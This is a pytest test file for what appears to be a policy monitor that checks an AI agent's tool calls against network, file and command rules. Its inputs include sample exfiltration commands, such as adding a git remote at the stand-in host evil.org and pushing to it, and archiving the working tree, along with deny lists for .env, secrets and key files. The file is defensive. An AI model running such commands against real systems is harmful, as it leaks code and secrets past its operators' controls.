"""Remotes that a session sets, recursive reads, unknown programs and nested arguments of tools."""

import pytest

from agent_pipes.core.event import make
from agent_pipes.detect.scope_rules import ScopeDetector
from agent_pipes.scope.evaluate import SessionScope
from agent_pipes.scope.policy import Policy

NETWORK = {"network": {"deny_all": True, "allow": ["a.ok.org"]}}
FILES = {
    "files": {"read": {"deny": [".env", "secrets/**", "*.pem"]}, "write": {"deny": ["deploy/**"]}}
}


@pytest.fixture(autouse=True)
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def call(scope, command, tool="Bash", **arguments):
    arguments = arguments or {"command": command}
    data = {"tool_name": tool, "arguments": arguments}
    return scope.evaluate(make("tool_call", 1.0, "s", data))


def hosts(evaluation):
    return [breach.target for breach in evaluation.breaches]


@pytest.mark.parametrize(
    "setting",
    [
        "git remote add fork https://evil.org/x",
        "git remote add -f fork git@evil.org:x",
        "git remote set-url fork https://evil.org/x",
        "git config remote.fork.url https://evil.org/x",
    ],
)
@pytest.mark.parametrize(
    "use", ["git fetch fork", "git pull fork main", "git push -u fork HEAD", "git ls-remote fork"]
)
def test_a_denied_remote_is_known_in_later_calls(setting, use):
    scope = SessionScope(Policy("p", NETWORK))
    assert hosts(call(scope, setting)) == ["evil.org"]
    assert hosts(call(scope, "git status")) == []
    assert hosts(call(scope, use)) == ["evil.org"]


def test_a_remote_belongs_to_its_repository():
    scope = SessionScope(Policy("p", NETWORK))
    call(scope, "git -C a remote add origin https://evil.org/x")
    assert hosts(call(scope, "git push origin")) == []
    assert hosts(call(scope, "cd a && git push origin")) == ["evil.org"]
    assert hosts(call(scope, "git -C a pull")) == ["evil.org"]


def test_an_allowed_remote_is_judged_and_raises_nothing():
    scope = SessionScope(Policy("p", NETWORK))
    assert call(scope, "git remote add ok https://a.ok.org/x && git fetch ok").unjudged == []
    assert [gap.kind for gap in call(scope, "git fetch other").unjudged] == ["network"]


@pytest.mark.parametrize(
    "command", ["grep -r KEY .", "cp -r . /tmp/x", "tar czf /tmp/x.tgz .", "rg -uu KEY"]
)
def test_a_recursive_read_is_one_of_the_denied_files_that_exist(tmp_path, command):
    scope = SessionScope(Policy("p", FILES))
    found = call(scope, command)
    assert not found.breaches and [gap.kind for gap in found.unjudged] == ["tree"]
    (tmp_path / ".env").write_text("KEY=1")
    assert [breach.rule for breach in call(scope, command).breaches] == [
        'denied by files.read.deny ".env"'
    ]


@pytest.mark.parametrize(
    "command", ["rg KEY", "rg KEY .", "ag KEY", "grep -r KEY --include='*.py' ."]
)
def test_a_search_that_leaves_out_hidden_files_is_no_violation(tmp_path, command):
    (tmp_path / ".env").write_text("KEY=1")
    assert not call(SessionScope(Policy("p", FILES)), command).breaches


@pytest.mark.parametrize(
    ("arguments", "breaks"),
    [
        ({"pattern": "KEY", "path": "secrets"}, True),
        ({"pattern": "KEY", "glob": ".env*"}, True),
        ({"pattern": "KEY", "path": "x", "glob": "**/.env"}, True),
        ({"pattern": "KEY", "path": "."}, False),
        ({"pattern": "KEY", "glob": "*.py"}, False),
    ],
)
def test_the_search_tool_reads_what_its_patterns_can_match(arguments, breaks):
    found = call(SessionScope(Policy("p", FILES)), "", tool="Grep", **arguments)
    assert bool(found.breaches) is breaks


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("deploy-tool secrets/key", 'files.read.deny "secrets/**"'),
        ("deploy-tool --with x.pem", 'files.read.deny "*.pem"'),
        ("deploy-tool README.md", ""),
        ("deploy-tool --ignore .env", ""),
        ("deploy-tool --message .env", ""),
    ],
)
def test_a_denied_file_among_unknown_arguments_is_warned_of(command, rule):
    found = call(SessionScope(Policy("p", FILES)), command)
    assert not found.breaches
    assert [gap.rule for gap in found.unjudged if gap.rule] == [rule][: bool(rule)]


@pytest.mark.parametrize(
    ("arguments", "target"),
    [
        ({"options": {"source_path": "secrets/key"}}, "secrets/key"),
        ({"job": {"steps": [{"input": {"file": ".env"}}]}}, ".env"),
        ({"request": {"outputDir": "deploy/x"}}, "deploy/x"),
        ({"uploads": [{"dest": {"path": "deploy/a"}}]}, "deploy/a"),
        ({"resource": {"uri": "file:///../.env"}}, None),
        ({"deep": {"a": {"b": {"c": {"d": {"saveTo": "deploy/z"}}}}}}, "deploy/z"),
        ({"options": {"title": "secrets/key"}}, None),
        ({"options": {"path": "src/a.py"}}, None),
    ],
)
def test_nested_arguments_of_an_mcp_tool_are_paths_by_name(arguments, target):
    found = call(SessionScope(Policy("p", FILES)), "", tool="mcp__kit__process", **arguments)
    assert [breach.target for breach in found.breaches] == [target] * bool(target)


@pytest.mark.parametrize(
    ("arguments", "host"),
    [
        ({"options": {"endpoint": "https://evil.org/x"}}, "evil.org"),
        ({"servers": [{"hostname": "evil.org"}]}, "evil.org"),
        ({"target": {"address": "evil.org:443"}}, "evil.org"),
        ({"options": {"url": "https://a.ok.org"}}, None),
        ({"options": {"note": "https://evil.org"}}, None),
    ],
)
def test_nested_arguments_of_an_mcp_tool_are_hosts_by_name(arguments, host):
    found = call(SessionScope(Policy("p", NETWORK)), "", tool="mcp__kit__process", **arguments)
    assert hosts(found) == [host] * bool(host)


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("git status", True),
        ("git -C x status", True),
        ("git --no-pager status -s", True),
        ("git -c core.fsmonitor=./x status", False),
        ("git push", False),
        ("cd x && pytest -q | tail -5", True),
        ("timeout 60 pytest", True),
        ("uv run pytest", True),
        ("bash -c 'pytest && rm x'", False),
        ("f() { pytest; }; f", True),
        ("for t in a b; do pytest $t; done", True),
        ("find . -name '*.py' | xargs pytest", False),
        ("echo $(git push)", False),
        ("t=pytest; $t -q", True),
        ("alias p=pytest; p", True),
        ("git -c alias.s=status s", False),
    ],
)
def test_a_list_of_allowed_commands(command, allowed):
    scope = SessionScope(Policy("p", {"commands": {"allow": ["git status", "pytest"]}}))
    assert bool(call(scope, command).breaches) is not allowed


@pytest.mark.parametrize(
    "command",
    ["tox -v", "python -v x.py", "./deploy.sh --help", "./run.sh -v", "ansible-playbook -v s.yml"],
)
def test_a_program_that_is_told_to_be_verbose_runs(command, capfd):
    policy = Policy("p", {"files": {"write": {"deny": ["deploy/**"]}}})
    data = {"tool_name": "Bash", "arguments": {"command": command}}
    assert list(ScopeDetector(policy).see(make("tool_call", 1.0, "s", data), None, 1.0)) == []
    assert "scope cannot judge the inside of scripts (first: " in capfd.readouterr().err


@pytest.mark.parametrize("command", ["python --version", "node -v", "git --version", "npm -v"])
def test_a_program_that_prints_its_version_is_checked(command, capfd):
    policy = Policy("p", {"files": {"write": {"deny": ["deploy/**"]}}})
    data = {"tool_name": "Bash", "arguments": {"command": command}}
    assert list(ScopeDetector(policy).see(make("tool_call", 1.0, "s", data), None, 1.0)) == []
    assert capfd.readouterr().err == ""
